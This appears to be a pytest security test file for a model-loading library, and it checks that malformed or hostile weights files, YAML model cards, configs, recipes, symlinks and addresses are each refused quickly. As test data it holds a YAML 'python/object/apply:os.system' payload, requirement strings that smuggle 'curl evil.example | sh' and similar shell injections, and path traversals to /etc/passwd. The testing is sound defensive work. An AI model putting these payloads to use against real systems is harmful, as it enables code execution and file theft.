"""Files that somebody made to do harm, one by one: each is one clear error, in no time."""

import json
import os
import shutil
import struct
import time
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

import zoo
from zoo.card import Card
from zoo.errors import CardError, FolderError, RecipeError, WeightsError, ZooError
from zoo.folder import FileRecord, read_config, read_weights
from zoo.training import Recipe

SECONDS = 5


@pytest.fixture
def folder(tiny_model: Path, tmp_path: Path) -> Path:
    """A model that loads, to be spoiled."""
    place = tmp_path / "model"
    shutil.copytree(tiny_model, place)
    return place


def vouch(folder: Path, name: str) -> None:
    """Let the card vouch for a file, as its author would."""
    card, record = Card.read(folder), FileRecord.of(folder / name)
    card.data["txzoo"]["files"][name] = {"sha256": record.sha256, "bytes": record.bytes}
    card.write(folder)


def refused(load: Callable[[], Any], *kinds: type[ZooError]) -> str:
    """The one line that a load ends in."""
    start = time.perf_counter()
    with pytest.raises(kinds or ZooError) as caught:
        load()
    assert time.perf_counter() - start < SECONDS
    message = str(caught.value)
    assert "\n" not in message and len(message) < 1000
    return message


def tensor(dtype: Any = "F32", shape: Any = (2,), offsets: Any = (0, 8)) -> dict[str, Any]:
    return {"dtype": dtype, "shape": shape, "data_offsets": offsets}


def blob(header: Any, data: bytes = bytes(8), length: int | None = None) -> bytes:
    """A safetensors file with any header."""
    text = header if isinstance(header, bytes) else json.dumps(header).encode()
    return struct.pack("<Q", len(text) if length is None else length) + text + data


HEADERS = {
    "length beyond the file": blob({"w": tensor()}, length=10_000),
    "length beyond everything": blob({"w": tensor()}, length=2**64 - 1),
    "length of nothing": blob({"w": tensor()}, length=0),
    "length within the header": blob({"w": tensor()}, length=20),
    "empty file": b"",
    "eight bytes": bytes(8),
    "overlapping offsets": blob({"a": tensor(), "b": tensor(offsets=(4, 12))}, bytes(12)),
    "same offsets": blob({"a": tensor(), "b": tensor()}),
    "hole between": blob({"a": tensor(), "b": tensor(offsets=(12, 20))}, bytes(20)),
    "negative offsets": blob({"w": tensor(offsets=(-8, 0))}),
    "reversed offsets": blob({"w": tensor(offsets=(8, 0))}),
    "offsets beyond the file": blob({"w": tensor(offsets=(0, 800))}),
    "offsets of text": blob({"w": tensor(offsets=("0", "8"))}),
    "offsets of fractions": blob({"w": tensor(offsets=(0.0, 8.0))}),
    "one offset": blob({"w": tensor(offsets=(8,))}),
    "three offsets": blob({"w": tensor(offsets=(0, 4, 8))}),
    "offset of 4000 digits": blob(
        b'{"w":{"dtype":"F32","shape":[2],"data_offsets":[0,' + b"9" * 4000 + b"]}}"
    ),
    "offset of 5000 digits": blob(
        b'{"w":{"dtype":"F32","shape":[2],"data_offsets":[0,' + b"9" * 5000 + b"]}}"
    ),
    "huge shape": blob({"w": tensor(shape=(2**40, 2**40))}),
    "shape that wraps around to 2": blob({"w": tensor(shape=(2**63 + 1, 2))}),
    "huge shape of no numbers": blob({"w": tensor(shape=(0, 2**63), offsets=(0, 0))}, b""),
    "negative shape": blob({"w": tensor(shape=(-2,))}),
    "shape of text": blob({"w": tensor(shape="2")}),
    "shape of truths": blob({"w": tensor(shape=(True, 2))}),
    "shape of other size": blob({"w": tensor(shape=(3,))}),
    "a million axes": blob({"w": tensor(shape=[1] * 1_000_000 + [2])}),
    "duplicate names": blob(
        b'{"w":{"dtype":"F32","shape":[2],"data_offsets":[0,8]},'
        b'"w":{"dtype":"F32","shape":[2],"data_offsets":[0,8]}}'
    ),
    "unknown dtype": blob({"w": tensor(dtype="F128")}),
    "dtype of another size": blob({"w": tensor(dtype="F64")}),
    "dtype of an object": blob({"w": tensor(dtype="O")}),
    "dtype that is a list": blob({"w": tensor(dtype=["F32"])}),
    "no dtype": blob({"w": {"shape": [2], "data_offsets": [0, 8]}}),
    "a list for a header": blob([1, 2]),
    "a tensor that is text": blob({"w": "F32"}),
    "metadata of numbers": blob({"__metadata__": {"a": 1}, "w": tensor()}),
    "metadata that is a list": blob({"__metadata__": [1], "w": tensor()}),
    "not JSON": blob(b"{" * 100),
    "not UTF-8": blob(b'{"\xff": 1}'),
    "deep nesting": blob(b'{"w":' + b"[" * 100_000 + b"]" * 100_000 + b"}"),
    "half a surrogate": blob(b'{"\\ud800":{"dtype":"F32","shape":[2],"data_offsets":[0,8]}}'),
    "data after the end": blob({"w": tensor()}, bytes(9)),
    "data cut off": blob({"w": tensor()}, bytes(7)),
    "nothing but a header": blob({"w": tensor()}, b""),
    "a zip archive": b"PK\x03\x04" + bytes(100),
    "a bare pickle": b"\x80\x04" + bytes(100),
    "not a number": blob({"w": tensor()}, struct.pack("<2f", float("nan"), 1)),
    "infinity": blob({"w": tensor()}, struct.pack("<2f", float("inf"), 1)),
}


@pytest.mark.parametrize("what", HEADERS)
def test_safetensors(what: str, tmp_path: Path) -> None:
    path = tmp_path / "model.safetensors"
    path.write_bytes(HEADERS[what])
    refused(lambda: read_weights(path), WeightsError, zoo.errors.UnsafeFileError)


def test_the_file_they_all_differ_from_is_read(tmp_path: Path) -> None:
    path = tmp_path / "model.safetensors"
    path.write_bytes(blob({"w": tensor()}, struct.pack("<2f", 1, 2)))
    assert read_weights(path)["w"].tolist() == [1.0, 2.0]


CARDS = {
    "billion laughs": "a: &a [x,x]\nb: &b [*a,*a]\nc: &c [*b,*b]\nd: [*c,*c]",
    "an alias of itself": "a: &a [*a]",
    "a merge": "a: &a {x: 1}\nb:\n  <<: *a",
    "python/object": "a: !!python/object/apply:os.system [id]",
    "python/name": "a: !!python/name:os.system",
    "an own tag": "a: !evil {x: 1}",
    "a flow of 100,000 levels": "a: " + "[" * 100_000,
    "mappings of 50,000 levels": "a: " + "{a: " * 50_000,
    "sequences of 30,000 levels": "- " * 30_000,
    "keys of 30,000 levels": "? " * 30_000,
    "indents of 2,000 levels": "\n".join(" " * n + "a:" for n in range(2_000)),
    "an integer of 5,000 digits": "a: " + "9" * 5_000,
    "an empty integer": "a: !!int ''",
    "an unlikely truth": "a: !!bool maybe",
    "an impossible date": "a: 2026-13-45",
    "two documents": "a: 1\n--- \nb: 2",
    "NUL": "a: \0",
    "a tab": "\ta: 1",
    "an unhashable key": "[a]: 1",
    "a list": "- a\n- b",
    "nothing": "",
}


@pytest.mark.parametrize("what", CARDS)
def test_yaml(what: str, folder: Path) -> None:
    (folder / "README.md").write_text(f"---\n{CARDS[what]}\n---\n")
    refused(lambda: zoo.load(folder), CardError)


@pytest.mark.parametrize(
    ("key", "value"),
    [
        ("summary", "\x1b[2J\x1b[31mowned"),
        ("name", "alibi-lm\r\nevil"),
        ("example", "\u202egnirts"),
        ("architecture", "\x9b2J"),
        ("requires", {"txzoo; curl evil.example | sh #": ">=0"}),
        ("requires", {"--index-url=http://evil.example txzoo": ">=0"}),
        ("requires", {"txzоо": ">=0"}),  # Cyrillic
        ("files", {"../../etc/passwd": {"sha256": "0" * 64, "bytes": 1}}),
        ("files", {"/etc/passwd": {"sha256": "0" * 64, "bytes": 1}}),
        ("files", {"C:\\x": {"sha256": "0" * 64, "bytes": 1}}),
        ("files", {"a\0b": {"sha256": "0" * 64, "bytes": 1}}),
        ("files", {"model.safetensors": {"sha256": "0" * 64, "bytes": 1e999}}),
        ("hub", {"repo": "../../etc", "revision": "0" * 40}),
        ("hub", {"repo": "оwner/name", "revision": "0" * 40}),  # Cyrillic
        ("hub", {"repo": "owner/name", "revision": "main"}),
    ],
)
def test_fields_of_a_card(folder: Path, key: str, value: Any) -> None:
    card = Card.read(folder)
    card.data["txzoo"][key] = value
    (folder / "README.md").write_text(card.dump(), encoding="utf-8")
    message = refused(lambda: zoo.load(folder), CardError)
    assert message.isprintable()


def test_a_requirement_is_quoted_for_the_shell(folder: Path) -> None:
    card = Card.read(folder)
    card.data["txzoo"]["requires"] = {"zoo-evil": "===1';curl${IFS}evil;'"}
    (folder / "README.md").write_text(card.dump())
    message = refused(lambda: zoo.load(folder))
    assert "pip install 'zoo-evil===1'\"'\"';curl${IFS}evil;'\"'\"''" in message


CONFIGS = {
    "deep nesting": "[" * 100_000,
    "deep objects": '{"a":' * 100_000,
    "5,000 digits": '{"n_layers": ' + "9" * 5_000 + "}",
    "NaN": '{"dropout": NaN}',
    "infinity": '{"dropout": -Infinity}',
    "not UTF-8": b"\xff\xfe{}",
    "a list": "[]",
    "a null": "null",
    "nothing": "",
    "larger than any": '{"a": "' + "x" * (5 << 20) + '"}',
}


@pytest.mark.parametrize("what", CONFIGS)
def test_json(what: str, folder: Path) -> None:
    content = CONFIGS[what]
    data = content if isinstance(content, bytes) else content.encode()
    (folder / "config.json").write_bytes(data)
    refused(lambda: read_config(folder), FolderError)
    refused(lambda: zoo.load(folder))


@pytest.mark.parametrize("key", ["vocab_size", "max_seq_len", "d_model", "n_layers", "n_heads"])
@pytest.mark.parametrize("value", [10**9, 2**62, 2**70, -1, 0, 1.5, True, None, "8", [8], {}])
def test_sizes_beyond_all_reason(folder: Path, key: str, value: Any) -> None:
    """A model ten thousand times its weights is refused before it fills the memory."""
    config = json.loads((folder / "config.json").read_text())
    (folder / "config.json").write_text(json.dumps(config | {key: value}))
    vouch(folder, "config.json")
    if key == "max_seq_len" and type(value) is int and value > 0:
        zoo.load(folder)  # ALiBi has no table of positions: this costs nothing and is no lie
        return
    refused(lambda: zoo.load(folder))


def test_a_table_that_would_fill_the_memory(tiny_model: Path, tmp_path: Path) -> None:
    source = zoo.info("sinusoidal-lm").folder
    folder = tmp_path / "sinusoidal"
    shutil.copytree(source, folder)
    config = json.loads((folder / "config.json").read_text())
    (folder / "config.json").write_text(json.dumps(config | {"max_seq_len": 10**11}))
    vouch(folder, "config.json")
    with pytest.raises(zoo.errors.ConfigError, match="asks for tables of 12,800,000,000,000 num"):
        zoo.load(folder)


RECIPES = {
    "deep nesting": "a = " + "[" * 50_000,
    "5,000 digits": "a = " + "9" * 5_000,
    "an impossible date": "a = 2026-13-45T99:99:99",
    "not UTF-8": b"\xff",
    "a key twice": "a = 1\na = 2",
    "NUL": "a = '\0'",
    "nothing": "",
}


@pytest.mark.parametrize("what", RECIPES)
def test_toml(what: str, tmp_path: Path) -> None:
    content = RECIPES[what]
    path = tmp_path / "recipe.toml"
    path.write_bytes(content if isinstance(content, bytes) else content.encode())
    refused(lambda: Recipe.read(path), RecipeError)


LINKS = {
    "a file outside": "../outside",
    "an absolute path": "/etc/hostname",
    "a device": "/dev/zero",
    "another device": "/dev/stdin",
    "the process": "/proc/self/mem",
    "itself": "{name}",
    "nowhere": "nowhere",
    "the folder": ".",
}


@pytest.mark.parametrize("what", LINKS)
@pytest.mark.parametrize(
    "name", ["README.md", "config.json", "model.safetensors", "tokenizer.json"]
)
def test_links(what: str, name: str, folder: Path) -> None:
    (folder.parent / "outside").write_bytes((folder / name).read_bytes())
    (folder / name).unlink()
    (folder / name).symlink_to(LINKS[what].format(name=name))
    refused(lambda: zoo.load(folder))


@pytest.mark.parametrize(
    "name", ["README.md", "config.json", "model.safetensors", "tokenizer.json"]
)
@pytest.mark.parametrize("kind", ["pipe", "folder", "huge"])
def test_things_that_are_no_files(name: str, kind: str, folder: Path) -> None:
    (folder / name).unlink()
    if kind == "pipe":
        os.mkfifo(folder / name)
    elif kind == "folder":
        (folder / name).mkdir()
    else:
        with (folder / name).open("wb") as file:
            file.truncate(1 << 40)  # a terabyte that takes no room
    refused(lambda: zoo.load(folder))


def test_a_link_within_the_folder_is_fine(folder: Path) -> None:
    (folder / "weights").mkdir()
    (folder / "model.safetensors").rename(folder / "weights/here")
    (folder / "model.safetensors").symlink_to("weights/here")
    assert zoo.load(folder).card is not None


def test_a_folder_that_looks_like_the_hubs_cache_is_none(folder: Path, tmp_path: Path) -> None:
    snapshot = tmp_path / "snapshots" / "model"
    snapshot.parent.mkdir()
    folder.rename(snapshot)
    (tmp_path / "secret").write_bytes((snapshot / "model.safetensors").read_bytes())
    (snapshot / "model.safetensors").unlink()
    (snapshot / "model.safetensors").symlink_to("../../secret")
    assert "links to a place outside" in refused(lambda: zoo.load(snapshot), FolderError)


@pytest.mark.parametrize(
    "ref",
    [
        "hf://оwner/name",  # Cyrillic o
        "hf://owner/nаme",  # Cyrillic a
        "hf://owner／name/x",  # fullwidth solidus
        "hf://owner/../../etc",
        "hf://owner/name@../../../etc/passwd",
        "hf://owner/name@/etc/passwd",
        "hf://owner/name@-x",
        "hf://owner/name@v1\n",
        "hf://owner/name@v1 --evil",
        "HF://owner/name",
        "аlibi-lm",  # Cyrillic a
        "alibi\u2010lm",  # a hyphen that is none
        "file:///etc/passwd",
        "https://evil.example/x",
    ],
)
def test_addresses(ref: str) -> None:
    refused(lambda: zoo.load(ref, offline=True))


def test_a_name_that_looks_like_another_is_another_file(folder: Path) -> None:
    (folder / "model.safetensors").rename(folder / "model.safetensоrs")  # Cyrillic o
    assert "model.safetensors" in refused(lambda: zoo.load(folder), FolderError)
